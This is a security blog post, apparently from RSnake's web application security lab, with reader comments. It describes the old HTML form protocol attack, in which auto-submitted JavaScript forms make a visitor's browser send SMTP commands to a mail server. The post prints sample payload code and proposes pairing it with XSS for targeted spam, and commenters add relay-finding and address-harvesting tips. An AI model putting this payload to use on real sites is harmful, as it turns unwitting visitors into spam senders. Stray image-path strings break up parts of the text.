Paid Advertising
web application security lab

JavaScript Spam

Every once in a while I hear something that really gets my imagination going. A few weeks ago when Samy and I were having lunch, he told me about a way to sent email through a browser using a form and an automatic form submission using JavaScript. While not new (there is an old obscure paper about this dating back to 2001), it’s definitely not well known. Especially in the day and age where JavaScript is coming under more scrutiny because of it’s malicious power, this could prove to be a really nasty thing in spammer’s arsenal.

The only obstacle in a spammer’s way is knowing which mail servers will and won’t accept malformed information in this way (thus far it looks like sendmail works, but I haven’t had luck with exchange or qmail). Here’s some sample code:

document.write('<form name="B" target="A" method="post" action="http://'+server+':25/" enctype="multipart/form-data">');
document.write('<textarea name="C"></textarea></form>');
s = 'HELO test\n';
s += 'EHLO test\n';
s += 'MAIL FROM:<>\n';
s += 'RCPT TO:<>\n';
s += 'DATA\n';
s += 'From:\n';
s += 'To:\n';
s += 'Subject: heh!\n';
s += 'testing 123\n\n';
s += '.\n\nQUIT\n\n';

Combining XSS, and knowing the user who is visiting the page’s email address can actually create ultra targetedspam sent from that user. Why bother burning through your own IP space if you can get someone else to use theirs? Pretty ugly! Your mileage may vary in the calls themselves. I’d be interested to hear other people’s test results.

9 Responses to “JavaScript Spam”

  1. Wladimir Palant Says:

    Yes, I came across this bug when I looked at port scanning. That was the report that caused Mozilla to close a number of well-known ports in the first place - Note that the example there doesn’t even require JavaScript, a simple META Refresh will do.

  2. Sid Says:

    I tried using this against postfix on my localhost and when redirected to firefox gave me this:

    Opera on the other hand was fine with sending the request (the SMTP server didn’t send any emails though)

    This is a great idea though, if only I knew of a public smtp server that this worked on.3. Kyran Says:

    Yeah Sid, I think the hardest part is finding a suitable SMTP server.
    Although, if it’s supertargeted, you could probably use their ISP’s.

  4. Jungsonn Says:

    Haha yes, that’s an oldie. :) it’s nice to see those things revive!


    Firefox 2.0: same as Sid.
    Internet Explorer 6.0: Works!

  5. kuza55 Says:

    AFAIK Anti-DNS Pinning still works, right?

    Because as long as that works, it doesn’t really matter if SMTP servers will accept HTTP traffic as if it were SMTP traffic, because we can create sockets.

    But if Anti-DNS Pinning is ever fixed, then this will most definitely become useful again.

  6. anon Says:

    “there is anold obscure paper about this” - Oh, come, come. The paper is “HTML Form Protocol Attack” (, it’s not obscure - it’s very plain and focused. It was followed by a very clear CERT warning ( as well as a BugTraq BID (

  7. Another Sid Says:

    One could use form auto-fill to obtain email addresses from many people.

    Figuring out which relay server to use is harder, but perhaps can be done by looking at the REMOTE_HOST on the server, choosing an appropriate substring, and putting “mail” or “smtp” or “mail-relay” in front. Though this *does* make it harder to use XSS for deployment. One could also choose from a set of known open relays…

    Works in Safari 2.

  8. RSnake Says:

    @kuza55 - yes, that’s correct, anti-DNS pinning is definitely still in our arsenal at this moment.

    @anon - Yup, that’s the one. I’d still contend that it’s obscure since I couldn’t find it linked from anywhere that normally discusses this sort of thing (I think Amit Klein was the first person to show it to me), and it’s definitely old - 6 years is ancient history in this business. I hear people saying things that have been discussed weeks ago are old. But yes, that’s the one.

    @Another Sid- Good info. I hadn’t seen that cgi script before. Cute!

  9. Awesome AnDrEw Says:

    I’ve read somewhere that a lot of domains are unfairly blacklisted as spam outlets because of the ability to use PHP form mailers to mass mail others by appending CC and BCC to the message. I don’t have alot of information on it though because I don’t set myself up to be raped like that.